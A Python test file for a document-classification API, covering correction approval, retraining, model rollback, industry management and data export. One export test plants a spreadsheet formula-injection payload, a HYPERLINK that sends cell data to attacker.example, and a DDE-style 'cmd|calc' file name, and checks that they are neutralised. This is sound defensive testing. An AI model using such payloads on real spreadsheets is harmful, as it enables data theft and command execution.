"""The review-then-retrain loop through the HTTP API on the real in-process broker."""

from __future__ import annotations

import json
import time

from sqlmodel import select

from core.classify.model import HeronModel
from core.db import session_scope
from core.db.tables import ModelVersion, TrainingExample
from core.uncertainty import STRATEGIES, uncertainty
from tests.conftest import wait_for_job
from tests.documents import REAL_ESTATE


def _upload(client, text: str, name: str) -> dict:  # type: ignore[no-untyped-def]
    job_id = client.post("/api/classify_file", files={"file": (name, text.encode())}).json()["job_id"]
    return wait_for_job(client, job_id)


def test_approved_corrections_train_a_new_version_that_gets_them_right(client, runtime) -> None:  # type: ignore[no-untyped-def]
    # Given a new industry (described by its name only; another test may have added it already)
    # and documents about it
    created = client.post("/api/industries", json={"industry_name": "real_estate"})
    assert created.status_code in (202, 409)
    jobs = [
        _upload(client, text + f" (listing {i})", f"listing{i}.txt") for i, text in enumerate(REAL_ESTATE)
    ]
    # When an annotator corrects each one and a reviewer approves them in bulk
    ids = []
    for job in jobs:
        response = client.post(
            "/api/feedback/", json={"job_id": job["id"], "corrected_classification": "real_estate"}
        )
        ids.append(response.json()["feedback_id"])
    pending = client.get("/api/feedback", params={"status": "pending", "limit": 1000}).json()
    assert set(ids) <= {item["id"] for item in pending["items"]}
    with session_scope(runtime.engine) as session:
        before = {v.id for v in session.exec(select(ModelVersion))}
    approved = client.post("/api/feedback/approve", json={"ids": ids})
    assert approved.status_code == 200 and {i["status"] for i in approved.json()["items"]} == {"approved"}
    # Then the approved labels are training data (a share of them gold, never trained on) ...
    with session_scope(runtime.engine) as session:
        examples = session.exec(select(TrainingExample).where(TrainingExample.label == "real_estate")).all()
    assert len(examples) == len(REAL_ESTATE)
    trained = [e for e in examples if e.split == "train"]
    assert trained, "every approved example went to the gold set"
    # ... and an incremental version appears within seconds that learned them (named in its
    # report: the run the new industry queued may also finish meanwhile, having learned nothing)
    deadline = time.monotonic() + 120
    new: list[ModelVersion] = []
    while not new and time.monotonic() < deadline:
        time.sleep(0.5)
        with session_scope(runtime.engine) as session:
            new = [
                v
                for v in session.exec(select(ModelVersion))
                if v.id not in before
                and v.kind == "incremental"
                and {item["feedback_id"] for item in (v.trained_on or {}).get("learned", [])} & set(ids)
            ]
    assert new, "no model version was trained after the approval"
    version = new[0]
    assert version.kind == "incremental" and "real_estate" in version.labels
    model = HeronModel.from_bytes(version.artifact)
    verdicts = model.classify([e.text for e in trained], runtime.policy, encoder=runtime.encoder)
    assert sum(v.label == "real_estate" for v in verdicts) >= len(trained) - 1
    # ... it is promoted (not worse on the starter holdout + gold set), and the API now serves it:
    # the same document uploaded again gets the corrected industry
    assert version.status == "active", version.metrics
    time.sleep(runtime.models.refresh_seconds + 0.5)
    again = _upload(client, REAL_ESTATE[0] + " (listing 0)", "again.txt")
    # (that version, or one trained after it: an approval may also queue a full run)
    assert again["classification_result"] == "real_estate" and again["model_version"] >= version.id
    # And the job view shows the approved correction
    assert client.get(f"/api/jobs/{jobs[0]['id']}").json()["feedback_status"] == "approved"
    # Deciding twice is refused with a code (a conflict with its state, not a malformed request)
    again = client.post(f"/api/feedback/{ids[0]}/reject")
    assert (again.status_code, again.json()["code"]) == (409, "conflict")


def test_the_review_queue_puts_the_least_certain_first(client) -> None:  # type: ignore[no-untyped-def]
    _upload(client, "Notes from the meeting. Several items were discussed and some were agreed.", "vague.txt")
    for strategy in ("least_confidence", "margin", "entropy"):
        page = client.get("/api/review", params={"strategy": strategy, "limit": 1000}).json()
        assert page["total"] == len(page["items"]) and page["total"] >= 1
        assert all(item["needs_review"] for item in page["items"])
        assert all(item["corrected_classification"] is None for item in page["items"])
    by_confidence = client.get("/api/review", params={"strategy": "least_confidence", "limit": 1000}).json()[
        "items"
    ]
    confidences = [item["confidence"] for item in by_confidence]
    assert confidences == sorted(confidences)
    bad = client.get("/api/review", params={"strategy": "coin_flip"})
    assert (bad.status_code, bad.json()["code"]) == (422, "invalid")


def test_the_review_queue_is_ordered_filtered_and_paged_by_the_database(client) -> None:  # type: ignore[no-untyped-def]
    # Given several documents the model is unsure about
    for i in range(3):
        _upload(
            client, f"Notes from meeting {i}. Several items were discussed; a few were agreed.", f"m{i}.txt"
        )
    for strategy in STRATEGIES:
        # When the queue is read whole, and then two items at a time
        whole = client.get("/api/review", params={"strategy": strategy, "limit": 1000}).json()["items"]
        pages = [
            client.get("/api/review", params={"strategy": strategy, "limit": 2, "offset": offset}).json()
            for offset in range(0, len(whole), 2)
        ]
        # Then it is ordered by the strategy's uncertainty, most uncertain first, and the pages are
        # exactly its slices, each knowing the whole queue's size
        assert len(whole) >= 3
        scores = [uncertainty(item["scores"], strategy) for item in whole]
        assert scores == sorted(scores, reverse=True)
        assert [item["id"] for page in pages for item in page["items"]] == [item["id"] for item in whole]
        assert {page["total"] for page in pages} == {len(whole)}
    # And filtering by reason keeps exactly the items routed for that reason
    whole = client.get("/api/review", params={"limit": 1000}).json()["items"]
    for reason in {reason for item in whole for reason in item["review_reasons"]}:
        page = client.get("/api/review", params={"reason": reason, "limit": 1000}).json()
        expected = [item["id"] for item in whole if reason in item["review_reasons"]]
        assert [item["id"] for item in page["items"]] == expected and page["total"] == len(expected)
    # A reason outside the vocabulary, a LIKE wildcard included, is refused rather than matched
    wildcard = client.get("/api/review", params={"reason": "low%", "limit": 1000})
    assert (wildcard.status_code, wildcard.json()["code"]) == (422, "invalid")


def test_job_list_pages_and_filters(client) -> None:  # type: ignore[no-untyped-def]
    page = client.get("/api/jobs", params={"status": "COMPLETED", "limit": 2}).json()
    assert len(page["items"]) <= 2 and page["total"] >= len(page["items"])
    assert {item["status"] for item in page["items"]} <= {"COMPLETED"}
    too_many = client.get("/api/jobs", params={"limit": 5000})
    assert (too_many.status_code, too_many.json()["code"]) == (422, "invalid")


def test_models_can_be_listed_inspected_and_rolled_back(client, runtime) -> None:  # type: ignore[no-untyped-def]
    models = client.get("/api/models").json()["items"]
    assert models and {"id", "status", "parent_id", "metrics", "created_at"} <= set(models[0])
    first = min(m["id"] for m in models)
    report = client.get(f"/api/models/{first}/report").json()
    assert "starter_holdout" in report["reports"] and "macro_f1" in report["reports"]["starter_holdout"]
    active = next(m["id"] for m in models if m["status"] == "active")
    rolled = client.post(f"/api/models/{first}/activate")
    assert rolled.status_code == 200
    # ... and a rollback names the active industries that version never learned (it cannot answer them)
    learned = next(m["labels"] for m in models if m["id"] == first)
    active_names = [
        i["name"] for i in client.get("/api/industries").json()["items"] if i["status"] == "active"
    ]
    assert sorted(rolled.json()["not_predicted"]) == sorted(
        name for name in active_names if name not in learned
    )
    statuses = {m["id"]: m["status"] for m in client.get("/api/models").json()["items"]}
    assert statuses[first] == "active" and (active == first or statuses[active] == "retired")
    assert client.post(f"/api/models/{active}/activate").status_code == 200
    assert client.post("/api/models/99999/activate").json()["code"] == "not_found"


def test_industries_are_listed_renamed_and_retired_without_losing_data(client, runtime) -> None:  # type: ignore[no-untyped-def]
    assert (
        client.post(
            "/api/industries", json={"industry_name": "Shipping", "description": "Ports and freight."}
        ).status_code
        == 202
    )
    listed = {i["name"]: i for i in client.get("/api/industries").json()["items"]}
    assert listed["shipping"]["status"] == "active"
    assert listed["finance"]["examples"]["starter"] > 0
    renamed = client.patch("/api/industries/shipping", json={"name": "Maritime"})
    assert renamed.status_code == 200 and renamed.json()["name"] == "maritime"
    duplicate = client.patch("/api/industries/maritime", json={"name": "finance"})
    assert (duplicate.status_code, duplicate.json()["code"]) == (409, "conflict")
    loose = client.patch("/api/industries/maritime", json={"catch_all": "yes"})
    assert (loose.status_code, loose.json()["code"]) == (422, "invalid")  # true or false, not a word
    twin = client.post("/api/industries", json={"industry_name": "Maritime_"})
    assert (twin.status_code, twin.json()["code"]) == (409, "conflict")  # "maritime_" is "maritime"
    same = client.patch("/api/industries/maritime", json={"description": "Ports and freight."})
    assert (same.status_code, same.json()["code"]) == (422, "invalid") and "Nothing to change" in same.json()[
        "message"
    ]
    nothing = client.patch("/api/industries/maritime", json={})
    assert (nothing.status_code, nothing.json()["code"]) == (
        422,
        "invalid",
    ) and "Nothing to change" in nothing.json()["message"]
    retired = client.delete("/api/industries/maritime")
    assert retired.json()["status"] == "retired" and retired.json()["training_task_id"]
    names = {i["name"]: i["status"] for i in client.get("/api/industries").json()["items"]}
    assert names["maritime"] == "retired" and "shipping" not in names
    job = _upload(
        client, "Container ship berthed at the port; freight forwarders cleared customs.", "ship.txt"
    )
    assert job["classification_result"] != "maritime" and "maritime" not in job["scores"]
    # A retirement can be undone, and an existing industry given example files
    restored = client.post("/api/industries/maritime/restore")
    assert restored.status_code == 200 and restored.json()["status"] == "active", restored.json()
    again = client.post("/api/industries/maritime/restore")
    assert (again.status_code, again.json()["code"]) == (409, "conflict")  # active already
    files = [
        (
            "files",
            (
                f"manifest{i}.txt",
                f"Cargo manifest {i}: containers loaded at berth {i}; bill of lading.".encode(),
            ),
        )
        for i in range(3)
    ]
    added = client.post("/api/industries/maritime/examples", files=files)
    assert added.status_code == 202 and added.json()["examples_added"] == 3, added.json()
    assert added.json()["training_task_id"]
    known = client.post("/api/industries/maritime/examples", files=files)  # the same again: nothing new
    assert (known.status_code, known.json()["code"]) == (409, "conflict") and "already" in known.json()[
        "message"
    ]
    none = client.post("/api/industries/maritime/examples", json={"files": []})
    assert (none.status_code, none.json()["code"]) == (422, "invalid")
    unreadable = client.post(
        "/api/industries/maritime/examples",
        files=[("files", ("empty.txt", b"")), ("files", ("x.exe", b"MZ\x90\x00"))],
    )
    assert (unreadable.status_code, unreadable.json()["code"]) == (422, "invalid"), unreadable.json()
    assert "empty.txt" in unreadable.json()["message"] and "nothing was added" in unreadable.json()["message"]
    listed = {i["name"]: i for i in client.get("/api/industries").json()["items"]}
    assert listed["maritime"]["status"] == "active" and listed["maritime"]["examples"]["import"] == 3
    assert client.delete("/api/industries/maritime").status_code == 200
    again = client.delete("/api/industries/maritime")
    assert (again.status_code, again.json()["code"]) == (409, "conflict")  # retired already
    manifest = [("files", ("manifest9.txt", b"Cargo manifest 9: containers loaded at berth 9."))]
    to_retired = client.post("/api/industries/maritime/examples", files=manifest)
    assert (to_retired.status_code, to_retired.json()["code"]) == (409, "conflict"), to_retired.json()
    to_unknown = client.post("/api/industries/atlantis/examples", files=manifest)
    assert (to_unknown.status_code, to_unknown.json()["code"]) == (404, "not_found"), to_unknown.json()
    # A correction to a retired industry says so, and a name needs a letter
    late = client.post("/api/feedback/", json={"job_id": job["id"], "corrected_classification": "maritime"})
    assert (late.status_code, late.json()["code"]) == (422, "invalid") and "retired" in late.json()["message"]
    digits = client.post("/api/industries", json={"industry_name": "123"})
    assert (digits.status_code, digits.json()["code"]) == (422, "invalid")
    # A retired industry cannot become the catch-all: the active ones would be left without one
    retired_catch_all = client.patch("/api/industries/maritime", json={"catch_all": True})
    assert (retired_catch_all.status_code, retired_catch_all.json()["code"]) == (409, "conflict")
    assert {i["name"] for i in client.get("/api/industries").json()["items"] if i["catch_all"]} == {"other"}
    # The catch-all is not retired by accident: it holds what no other industry claims
    catch_all = client.delete("/api/industries/other")
    assert (catch_all.status_code, catch_all.json()["code"]) == (409, "conflict"), catch_all.json()
    assert "catch-all" in catch_all.json()["message"]
    assert {i["name"]: i["status"] for i in client.get("/api/industries").json()["items"]}[
        "other"
    ] == "active"
    missing = client.delete("/api/industries/atlantis")
    assert (missing.status_code, missing.json()["code"]) == (404, "not_found")


def test_approved_data_exports_as_jsonl_and_csv(client) -> None:  # type: ignore[no-untyped-def]
    import csv
    import io
    import json

    lines = client.get("/api/export", params={"format": "jsonl", "source": "starter", "label": "legal"}).text
    rows = [json.loads(line) for line in lines.splitlines()]
    assert (
        rows
        and {row["label"] for row in rows} == {"legal"}
        and {row["source"] for row in rows} == {"starter"}
    )
    assert {"id", "label", "source", "split", "text"} <= set(rows[0])
    table = list(csv.reader(io.StringIO(client.get("/api/export", params={"format": "csv"}).text)))
    assert table[0][:3] == ["id", "label", "source"] and len(table) > len(rows)
    bad = client.get("/api/export", params={"format": "xml"})
    assert (bad.status_code, bad.json()["code"]) == (422, "invalid")


def test_an_exported_csv_opens_in_a_spreadsheet_as_text_never_as_a_formula(tmp_path) -> None:  # type: ignore[no-untyped-def]
    import csv
    import io

    from core.db import make_engine, migrate, session_scope
    from core.db.tables import TrainingExample
    from core.services.export import export_examples

    engine = make_engine(f"sqlite:///{tmp_path / 'export.db'}")
    migrate(engine)
    # Given an example whose text and file name a spreadsheet would run as formulas (anyone who
    # can upload a document can write them)
    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"open") This lease binds the tenant.'
    with session_scope(engine) as session:
        session.add(
            TrainingExample(
                text=formula,
                content_hash="h",
                label="legal",
                source="import",
                origin="@SUM(1+1)*cmd|calc.txt",
            )
        )
    # When it is exported as CSV
    body = export_examples(engine=engine, fmt="csv").body
    row = next(row for row in csv.reader(io.StringIO(body)) if row[0] != "id")
    # Then the cells are text to a spreadsheet (a leading apostrophe), their words unchanged
    assert row[-1] == "'" + formula
    assert row[4] == "'@SUM(1+1)*cmd|calc.txt"
    assert row[1:3] == ["legal", "import"]
    # And the JSONL export, read by programs, keeps the text exactly
    assert formula in export_examples(engine=engine, fmt="jsonl").body.replace('\\"', '"')
    engine.dispose()


def test_approving_corrections_keeps_one_label_per_document_and_only_active_industries(
    client, runtime
) -> None:  # type: ignore[no-untyped-def]
    from core.corpus import content_hash

    text = "Quarterly statement: the fund's bond holdings fell as yields rose; the manager cut duration."
    job = _upload(client, text, "statement-disputed.txt")

    def correct(label: str) -> int:
        response = client.post(
            "/api/feedback/", json={"job_id": job["id"], "corrected_classification": label}
        )
        return response.json()["feedback_id"]

    def approved_labels() -> list[str]:
        with session_scope(runtime.engine) as session:
            rows = session.exec(
                select(TrainingExample).where(
                    TrainingExample.content_hash == content_hash(text),
                    TrainingExample.source == "feedback",
                    TrainingExample.status == "approved",
                )
            ).all()
        return sorted(row.label for row in rows)

    # Given two annotators who labelled one document differently
    finance, legal = correct("finance"), correct("legal")
    # When a reviewer approves both at once, then nothing is approved: one document, one label
    both = client.post("/api/feedback/approve", json={"ids": [finance, legal]})
    assert (both.status_code, both.json()["code"]) == (409, "conflict"), both.json()
    assert approved_labels() == []
    # When the reviewer approves one, then the other, then the later approval is the last word
    assert client.post("/api/feedback/approve", json={"ids": [finance]}).status_code == 200
    assert approved_labels() == ["finance"]
    twice = client.post("/api/feedback/approve", json={"ids": [finance]})
    assert (twice.status_code, twice.json()["code"]) == (409, "conflict")  # decided already
    assert client.post("/api/feedback/approve", json={"ids": [legal]}).status_code == 200
    assert approved_labels() == ["legal"]
    # And a correction to an industry retired since it was filed is refused, not trained on
    assert client.post("/api/industries", json={"industry_name": "brokerage"}).status_code == 202
    brokerage = correct("brokerage")
    assert client.delete("/api/industries/brokerage").status_code == 200
    late = client.post("/api/feedback/approve", json={"ids": [brokerage]})
    assert (late.status_code, late.json()["code"]) == (409, "conflict"), late.json()
    assert "retired" in late.json()["message"] and approved_labels() == ["legal"]


def test_a_correction_is_the_last_word_on_a_document_imported_with_another_label(client, runtime) -> None:  # type: ignore[no-untyped-def]
    from core.corpus import content_hash

    text = "Tenancy notice: the landlord's bank returned the deposit with interest after the lease ended."
    # Given a file a user gave finance as an example
    imported_before = {i["name"]: i["examples"] for i in client.get("/api/industries").json()["items"]}[
        "finance"
    ].get("import", 0)
    added = client.post(
        "/api/industries/finance/examples", files=[("files", ("deposit-notice.txt", text.encode()))]
    )
    assert added.status_code in (200, 202), added.json()
    # When the same document comes in, is corrected to legal and the correction approved
    job = _upload(client, text, "deposit-notice-again.txt")
    feedback_id = client.post(
        "/api/feedback/", json={"job_id": job["id"], "corrected_classification": "legal"}
    ).json()["feedback_id"]
    assert client.post("/api/feedback/approve", json={"ids": [feedback_id]}).status_code == 200
    # Then Heron learns the document as legal only, not as both: in its examples, in the counts
    # per industry and in the export
    exported = [
        json.loads(line) for line in client.get("/api/export", params={"format": "jsonl"}).text.splitlines()
    ]
    assert [row["label"] for row in exported if row["text"] == text] == ["legal"]
    counts = {i["name"]: i["examples"] for i in client.get("/api/industries").json()["items"]}
    assert counts["finance"].get("import", 0) == imported_before
    with session_scope(runtime.engine) as session:
        labels = session.exec(
            select(TrainingExample.label, TrainingExample.source).where(
                TrainingExample.content_hash == content_hash(text), TrainingExample.status == "approved"
            )
        ).all()
    assert [label for label, _ in labels] == ["legal"], labels
    # And when the user sends the finance example again, that is the newest word: it is an example
    # again (not skipped as known), and the correction it contradicts stops training
    again = client.post(
        "/api/industries/finance/examples", files=[("files", ("deposit-notice.txt", text.encode()))]
    )
    assert again.status_code in (200, 202) and again.json()["examples_added"] == 1, again.json()
    exported = [
        json.loads(line) for line in client.get("/api/export", params={"format": "jsonl"}).text.splitlines()
    ]
    assert [row["label"] for row in exported if row["text"] == text] == ["finance"]
    # And a file whose text a correction labels otherwise supersedes that correction when it is newer
    other = "Tenancy notice: the lease ends in May and the deposit is returned after the inspection."
    other_job = _upload(client, other, "lease-end.txt")
    other_feedback = client.post(
        "/api/feedback/", json={"job_id": other_job["id"], "corrected_classification": "legal"}
    ).json()["feedback_id"]
    assert client.post("/api/feedback/approve", json={"ids": [other_feedback]}).status_code == 200
    assert (
        client.post(
            "/api/industries/finance/examples", files=[("files", ("lease-end.txt", other.encode()))]
        ).json()["examples_added"]
        == 1
    )
    exported = [
        json.loads(line) for line in client.get("/api/export", params={"format": "jsonl"}).text.splitlines()
    ]
    assert [row["label"] for row in exported if row["text"] == other] == ["finance"]


def test_the_job_shows_the_correction_approved_last_whichever_was_filed_first(client, runtime) -> None:  # type: ignore[no-untyped-def]
    job = _upload(
        client, "The tenant's rent arrears were settled by the bank's loan in court.", "arrears.txt"
    )
    first, second = (
        client.post("/api/feedback/", json={"job_id": job["id"], "corrected_classification": label}).json()[
            "feedback_id"
        ]
        for label in ("finance", "legal")
    )
    # When the reviewer approves the later-filed correction first, then the earlier one
    assert client.post("/api/feedback/approve", json={"ids": [second]}).status_code == 200
    assert client.post("/api/feedback/approve", json={"ids": [first]}).status_code == 200
    # Then the job shows the approval that decides (the last one), as its training example does
    view = client.get(f"/api/jobs/{job['id']}").json()
    assert (view["corrected_classification"], view["feedback_status"]) == ("finance", "approved")
    # And with no approval, the correction filed last: a new one after a rejected one
    other = _upload(client, "Minutes: the school board debated the library's opening hours.", "minutes.txt")
    rejected = client.post(
        "/api/feedback/", json={"job_id": other["id"], "corrected_classification": "finance"}
    ).json()["feedback_id"]
    assert client.post(f"/api/feedback/{rejected}/reject").status_code == 200
    client.post("/api/feedback/", json={"job_id": other["id"], "corrected_classification": "education"})
    view = client.get(f"/api/jobs/{other['id']}").json()
    assert (view["corrected_classification"], view["feedback_status"]) == ("education", "pending")


def test_a_request_nested_too_deeply_to_read_is_refused_not_a_server_error(client) -> None:  # type: ignore[no-untyped-def]
    body = '{"ids": ' + "[" * 5000 + "]" * 5000 + "}"
    for path in ("/api/feedback/approve", "/api/retrain_model"):
        response = client.post(path, content=body, headers={"content-type": "application/json"})
        assert (response.status_code, response.json()["code"]) == (422, "invalid"), (path, response.text)


def test_a_request_without_its_json_body_says_so(client) -> None:  # type: ignore[no-untyped-def]
    response = client.post("/api/feedback/approve")
    assert (response.status_code, response.json()["code"]) == (422, "invalid")
    assert "needs a JSON body" in response.json()["message"], response.json()


def test_relabelling_an_example_back_to_a_superseded_label_trains_that_label_again(client) -> None:  # type: ignore[no-untyped-def]
    text = "Gallery notice: the museum's autumn exhibition of ceramics opens on Friday with a talk."

    def exported() -> list[str]:
        rows = [
            json.loads(line)
            for line in client.get("/api/export", params={"format": "jsonl"}).text.splitlines()
        ]
        return [row["label"] for row in rows if row["text"] == text]

    def correct_and_approve(job_id: str, label: str) -> None:
        feedback = client.post("/api/feedback/", json={"job_id": job_id, "corrected_classification": label})
        assert (
            client.post("/api/feedback/approve", json={"ids": [feedback.json()["feedback_id"]]}).status_code
            == 200
        )

    # Given a document corrected to "other", then to "entertainment" (which supersedes "other")
    job = _upload(client, text, "gallery.txt")
    correct_and_approve(job["id"], "other")
    correct_and_approve(job["id"], "entertainment")
    assert exported() == ["entertainment"]
    # When a reviewer relabels that example back to "other" (a label issue on second look)
    example = next(
        item
        for item in client.get("/api/examples", params={"label": "entertainment", "limit": 1000}).json()[
            "items"
        ]
        if item["text"] == text
    )
    relabelled = client.post(f"/api/examples/{example['id']}/relabel", json={"label": "other"})
    assert relabelled.status_code in (200, 202), relabelled.text
    now = relabelled.json()
    assert (now["label"], now["status"]) == ("other", "approved")  # the example that trains now
    # Then the document trains as "other" again: it is not left without a label
    assert exported() == ["other"]


def test_a_job_without_text_cannot_be_labelled_so_no_approval_trains_nothing(client, runtime) -> None:  # type: ignore[no-untyped-def]
    # Given an upload with no text to read (a file of blanks)
    failed = wait_for_job(
        client, client.post("/api/classify_file", files={"file": ("blank.txt", b"   \n  ")}).json()["job_id"]
    )
    assert failed["status"] == "FAILED", failed
    # When an annotator labels it, then it is refused with the reason, nothing waits for a reviewer
    refused = client.post(
        "/api/feedback/", json={"job_id": failed["id"], "corrected_classification": "legal"}
    )
    assert (refused.status_code, refused.json()["code"]) == (409, "conflict"), refused.text
    assert "no text" in refused.json()["message"]
